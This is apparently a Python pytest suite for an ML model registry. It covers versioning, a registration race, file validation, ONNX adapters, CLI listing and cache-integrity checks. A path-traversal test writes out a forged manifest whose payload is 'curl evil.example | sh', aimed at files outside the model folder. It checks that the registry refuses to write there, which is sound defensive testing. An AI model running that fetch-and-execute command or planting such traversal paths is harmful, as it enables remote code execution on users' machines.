"""The model registry: sha256 and blob copy, lineage, versions, prediction files, the CLI."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import update

from assay.domain.labels import Region
from assay.errors import InvalidInput, NotFound
from assay.models import (
    OnnxClassifier,
    OnnxDetector,
    add_model,
    export_model,
    get_model,
    inspect_onnx,
    list_models,
    model_dir,
    model_file,
)
from assay.models._directory import HEAD_FILE, manifest_bytes
from assay.store.schema import models_table
from assay.versioning import LabelRecord
from assay.workspace import Workspace
from evaluation.runs.runs_world import (
    WEIGHTS,
    World,
    classification_world,
    onnx_classifier,
    onnx_detector,
)


def test_add_copies_the_file_and_records_lineage(world: World, tmp_path: Path) -> None:
    path = onnx_classifier(tmp_path / "m.onnx", weights=WEIGHTS * 2)
    info = add_model(world.ws, "lineage-clf", path, trained_on=world.spec)
    assert info.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()
    assert model_file(world.ws, info).read_bytes() == path.read_bytes()
    assert info.trained_on == world.commit
    assert (info.task, info.kind, info.classes) == ("classification", "onnx", ["dry", "flooded"])
    assert info.details["input_size"] == [32, 32]
    events = [e for e in world.ws.audit_log() if e.action == "model.add"]
    assert any(e.target == "model:lineage-clf@1" for e in events)


def test_same_file_is_idempotent_and_another_file_is_a_new_version(
    world: World, tmp_path: Path
) -> None:
    a = onnx_classifier(tmp_path / "a.onnx", weights=WEIGHTS * 3)
    b = onnx_classifier(tmp_path / "b.onnx", weights=WEIGHTS * 4)
    first = add_model(world.ws, "versioned", a)
    assert add_model(world.ws, "versioned", a).id == first.id
    second = add_model(world.ws, "versioned", b)
    assert (first.version, second.version) == (1, 2)
    assert get_model(world.ws, "versioned").ref == "versioned@2"
    assert get_model(world.ws, "versioned@1").sha256 == first.sha256
    refs = [m.ref for m in list_models(world.ws)]
    assert "versioned@1" in refs and "versioned@2" in refs


def test_two_versions_registered_at_once_get_numbers_of_their_own(
    world: World, tmp_path: Path
) -> None:
    """On PostgreSQL (read committed) both read the same latest version: the later one failed
    on the (name, version) key when the other committed."""
    import threading
    import time

    from sqlalchemy import insert, select

    from assay import audit
    from assay.store.schema import models_table

    a = onnx_classifier(tmp_path / "a.onnx", weights=WEIGHTS * 5)
    c = onnx_classifier(tmp_path / "c.onnx", weights=WEIGHTS * 6)
    first = add_model(world.ws, "raced", a)
    sha_c = hashlib.sha256(c.read_bytes()).hexdigest()
    result: dict[str, object] = {}

    def run() -> None:
        try:
            result["info"] = add_model(world.ws, "raced", c)
        except Exception as exc:  # the test reports it below
            result["error"] = exc

    t = threading.Thread(target=run)
    with world.ws.db.begin() as other:  # another registration of version 2, holding the lock
        audit.lock_trail(other)  # that every writer takes
        one = other.execute(select(models_table).where(models_table.c.id == first.id)).one()
        other.execute(insert(models_table), {**one._mapping, "id": "f" * 64, "version": 2})
        t.start()
        deadline = time.monotonic() + 30
        while not world.ws.blobs.exists(sha_c) and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.3)  # the registration is at its transaction now
    t.join(60)
    assert "error" not in result, repr(result.get("error"))
    assert result["info"].version == 3  # type: ignore[attr-defined]
    assert get_model(world.ws, "raced").ref == "raced@3"


def test_prediction_files_register_with_their_task(world: World, tmp_path: Path) -> None:
    csv = tmp_path / "p.csv"
    csv.write_text("name,dry,flooded\ndrone_000.jpg,0.2,0.8\n")
    coco = tmp_path / "d.json"
    coco.write_text(
        json.dumps([{"image_id": 1, "category_id": 1, "bbox": [1, 2, 3, 4], "score": 0.5}])
    )
    assert add_model(world.ws, "probs", csv).task == "classification"
    assert add_model(world.ws, "dets", coco).task == "detection"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("bad.csv", "file,dry\na,1\n", "exactly one key column"),
        ("bad2.csv", "item,dry\nabc,x\n", "column 'dry' must hold numbers"),
        ("bad3.csv", "item,dry\nabc,-1\n", "row 1, column 'dry'"),
        (
            "bad.json",
            '[{"image_id": 1, "category_id": 1, "bbox": [1, 2], "score": 1}]',
            r"\[0\]\.bbox",
        ),
        ("bad2.json", '[{"image_id": 1, "bbox": [1, 2, 3, 4], "score": 1}]', "category_id"),
        ("model.txt", "x", "unknown prediction file type"),
    ],
)
def test_bad_files_name_the_file_and_field(
    world: World, tmp_path: Path, name: str, content: str, message: str
) -> None:
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(InvalidInput, match=message) as err:
        add_model(world.ws, "broken", path)
    assert str(path) in str(err.value)


def test_bad_names_and_unknown_models(world: World, tmp_path: Path) -> None:
    path = onnx_classifier(tmp_path / "m.onnx")
    with pytest.raises(InvalidInput, match="model name"):
        add_model(world.ws, "has space", path)
    with pytest.raises(NotFound, match="no model 'nope'"):
        get_model(world.ws, "nope")
    with pytest.raises(InvalidInput, match="--task detection"):
        add_model(world.ws, "x", path, task="detection")


def test_onnx_adapters_run_the_graphs(tmp_path: Path) -> None:
    clf = OnnxClassifier(onnx_classifier(tmp_path / "c.onnx"), [], "c")
    x = np.zeros((2, 3, 32, 32), np.float32)
    x[0, 0] = 1.0  # red image -> flooded
    probs = clf.predict_proba(x)
    assert probs.shape == (2, 2) and np.allclose(probs.sum(axis=1), 1.0)
    assert probs[0, 1] > 0.99 and probs[1, 1] == pytest.approx(0.5)
    det_path = onnx_detector(
        tmp_path / "d.onnx", [(1, 2, 3, 4), (5, 6, 7, 8)], [0.9, 0.4], [1, -1], ["boat", "roof"]
    )
    assert inspect_onnx(det_path).task == "detection"
    dets = OnnxDetector(det_path, [], "d").detect(x)
    assert len(dets) == 2 and len(dets[0]) == 1  # the negative label pads
    assert dets[1][0].label == "roof" and dets[1][0].box == (1.0, 2.0, 3.0, 4.0)


def test_model_cli_add_list_show(world: World, tmp_path: Path, invoke) -> None:  # type: ignore[no-untyped-def]
    path = onnx_classifier(tmp_path / "cli.onnx", weights=WEIGHTS * 5)
    ws = world.root
    code, out = invoke(
        "-w", ws, "model", "add", "cli-clf", "--file", path, "--trained-on", "floods", "--json"
    )
    assert code == 0
    added = json.loads(out)
    assert added["ref"] == "cli-clf@1" and added["trained_on"] == world.commit
    code, out = invoke("-w", ws, "model", "list", "--json")
    assert "cli-clf@1" in [m["ref"] for m in json.loads(out)]
    code, out = invoke("-w", ws, "model", "show", "cli-clf", "--json")
    assert json.loads(out)["sha256"] == added["sha256"]
    code, out = invoke("-w", ws, "model", "show", "missing")
    assert code == 1 and "error: no model 'missing'" in out


def test_model_list_keeps_every_value_at_80_columns(world: World, tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    # Nine columns side by side cut the ref, task, marking, stage, sha256 and date to "…" in
    # a pipe: the ref and hash a user copies, and the date, stay whole.
    path = onnx_classifier(tmp_path / "wide.onnx", weights=WEIGHTS * 6)
    info = add_model(world.ws, "flood-classifier-coastal", path, trained_on=world.spec)
    out = cli("-w", world.root, "model", "list", env={"COLUMNS": "80"}).stdout
    assert "…" not in out and max(len(line) for line in out.splitlines()) <= 80
    lines = out.splitlines()
    at = next(k for k, line in enumerate(lines) if "flood-classifier-coastal@1" in line)
    assert info.sha256[:12] in lines[at + 1]  # under the ref, on a line of its own
    block = "\n".join(lines[at : at + 4])  # the model's row: its cells wrap at spaces
    for value in ("classification", "UNCLASSIFIED", "candidate", world.spec.split("@")[0]):
        assert value in block
    assert info.created[:10] in block and info.created[11:16] in block


def test_model_list_names_the_commit_a_bare_dataset_name_stood_for(
    tmp_path: Path,
    closing,  # type: ignore[no-untyped-def]
    cli,  # type: ignore[no-untyped-def]
) -> None:
    # `--trained-on floods` was listed as "floods": after the next commit that read as the
    # new labels, not the ones the model learned from.
    w = closing(classification_world(tmp_path / "ws", n=4))
    info = add_model(w.ws, "bare-clf", onnx_classifier(tmp_path / "m.onnx"), trained_on="floods")
    first = sorted(w.truth)[0]
    flipped = "dry" if w.truth[first] == "flooded" else "flooded"
    w.ws.set_labels(
        "floods", [LabelRecord(first, [Region(kind="choice", control="flood", label=flipped)])]
    )
    w.ws.commit("floods", "relabelled")
    out = cli("-w", w.root, "model", "list", env={"COLUMNS": "80"}).stdout
    row = next(line for line in out.splitlines() if "bare-clf@1" in line)
    assert row.rstrip(" │").endswith(f"floods@{w.commit[:12]}")
    assert info.trained_on_ref() == f"floods@{w.commit}"


@pytest.mark.parametrize("where", ["relative", "absolute"])
def test_a_manifest_naming_a_file_outside_the_model_writes_nothing_there(
    ws: Workspace, tmp_path: Path, where: str
) -> None:
    # A database writer (who can also store a blob) points a model at a manifest of their
    # own: materialising the model must not write a file of their choosing anywhere else,
    # such as the audit key, ~/.bashrc or ~/.ssh/authorized_keys.
    head = tmp_path / "head"
    head.mkdir()
    (head / HEAD_FILE).write_text(json.dumps({"classes": ["dry", "flooded"], "embedder": "e5"}))
    info = add_model(ws, "damage-head", head)
    target = tmp_path / "escaped.sh"
    name = "../../../../../escaped.sh" if where == "relative" else str(target)
    assert (ws.root / "cache" / "models" / "x" / name).resolve() == target
    payload = b"curl evil.example | sh\n"
    manifest = [{"path": name, "sha256": ws.blobs.put_bytes(payload), "size": len(payload)}]
    forged = ws.blobs.put_bytes(manifest_bytes(manifest))
    with ws.db.begin() as conn:
        conn.execute(update(models_table).where(models_table.c.id == info.id).values(sha256=forged))
    with pytest.raises(InvalidInput) as err:
        model_dir(ws, "damage-head")
    assert str(err.value) == (
        f"model damage-head@1: its manifest names {name!r}, which is not a path inside the "
        "model's folder"
    )
    assert not target.exists()
    with pytest.raises(InvalidInput, match="not a path inside the model's folder"):
        export_model(ws, "damage-head", tmp_path / "out")
    assert not target.exists() and not (tmp_path / "out").exists()


def test_a_single_file_model_named_outside_its_folder_writes_nothing_there(
    ws: Workspace, tmp_path: Path
) -> None:
    info = add_model(ws, "damage-clf", onnx_classifier(tmp_path / "m.onnx"))
    name = "../../../../../escaped.onnx"
    with ws.db.begin() as conn:
        conn.execute(
            update(models_table).where(models_table.c.id == info.id).values(file_name=name)
        )
    with pytest.raises(InvalidInput, match="not a path inside the model's folder"):
        model_dir(ws, "damage-clf")
    assert not (tmp_path / "escaped.onnx").exists()


def test_a_same_size_edit_of_a_cached_model_file_is_seen_and_undone(
    ws: Workspace, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # The cached folder was reused when every file had its size: a same-size edit of the
    # weights or the tokenizer was loaded as if it were the registered model.
    head = tmp_path / "head"
    head.mkdir()
    (head / HEAD_FILE).write_text(json.dumps({"classes": ["dry", "flooded"], "embedder": "e5"}))
    (head / "weights.bin").write_bytes(bytes(range(256)) * 4)
    info = add_model(ws, "cached-head", head)
    first = model_dir(ws, info)
    weights = first / "weights.bin"
    inode = weights.stat().st_ino
    assert model_dir(ws, info) == first and weights.stat().st_ino == inode  # reused as is
    edited = bytearray(weights.read_bytes())
    edited[10] ^= 0xFF
    weights.write_bytes(bytes(edited))  # same size; `touch -r` cannot set ctime back
    assert weights.stat().st_size == (head / "weights.bin").stat().st_size
    with caplog.at_level("WARNING", logger="assay.models.registry"):
        again = model_dir(ws, info)
    assert (again / "weights.bin").read_bytes() == (head / "weights.bin").read_bytes()
    assert "cached-head@1: its cached folder" in caplog.text and "changed" in caplog.text
    # A file replaced by another of the same size and mtime (a new inode) is seen too.
    tok = again / HEAD_FILE
    stat = tok.stat()
    tok.unlink()
    tok.write_text(json.dumps({"classes": ["wet", "flooded"], "embedder": "e5"}))
    os.utime(tok, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert json.loads(model_dir(ws, info).joinpath(HEAD_FILE).read_text())["classes"][0] == "dry"


def test_a_file_added_to_a_cached_model_folder_makes_it_copied_again(
    ws: Workspace, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # Only the registered files were checked: a file someone added to the cached folder (an
    # extra safetensors shard, a tokenizer file, a sub-folder) stayed and was loaded by
    # transformers along with the registered ones.
    head = tmp_path / "head"
    head.mkdir()
    (head / HEAD_FILE).write_text(json.dumps({"classes": ["dry", "flooded"], "embedder": "e5"}))
    (head / "weights.safetensors").write_bytes(b"w" * 64)
    info = add_model(ws, "extra-head", head)
    first = model_dir(ws, info)
    for extra in ("model-00002-of-00002.safetensors", "sub/tokenizer.json", ".hidden"):
        (first / extra).parent.mkdir(parents=True, exist_ok=True)
        (first / extra).write_text("{}")
        with caplog.at_level("WARNING", logger="assay.models.registry"):
            again = model_dir(ws, info)
        assert sorted(p.relative_to(again).as_posix() for p in again.rglob("*")) == [
            HEAD_FILE,
            "weights.safetensors",
        ], extra
        assert "extra-head@1: its cached folder" in caplog.text
        caplog.clear()


def test_a_model_above_the_users_clearance_is_not_found_without_a_register_hint(
    ws: Workspace,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    # `--as alice` on a SECRET model said "register it with `assay model add`": the model
    # exists, and the hint pointed the wrong way.
    from assay.labeling import add_user

    monkeypatch.setenv("ASSAY_ARGON2_MEMORY_KIB", "1024")
    add_model(ws, "night-clf", onnx_classifier(tmp_path / "m.onnx"), marking="SECRET")
    add_user(ws, "alice", "annotator", "UNCLASSIFIED", "correct horse battery")
    for cmd in ("show", "export"):
        extra = [tmp_path / f"out-{cmd}"] if cmd == "export" else []
        hidden = cli("-w", ws.root, "model", cmd, "night-clf@1", *extra, "--as", "alice", code=1)
        missing = cli("-w", ws.root, "model", cmd, "day-clf@1", *extra, "--as", "alice", code=1)
        assert hidden.stderr.strip() == "error: no model 'night-clf@1'"
        assert hidden.stderr == missing.stderr.replace("day-clf", "night-clf")
    low = ws.scheme.parse("UNCLASSIFIED")
    with pytest.raises(NotFound) as err:
        model_dir(ws, get_model(ws, "night-clf@1"), low)
    assert str(err.value) == "no model 'night-clf@1'"
    # Whoever sees every model is still told how to register a missing one.
    plain = cli("-w", ws.root, "model", "show", "day-clf", code=1)
    assert "register it with `assay model add day-clf PATH`" in plain.stderr
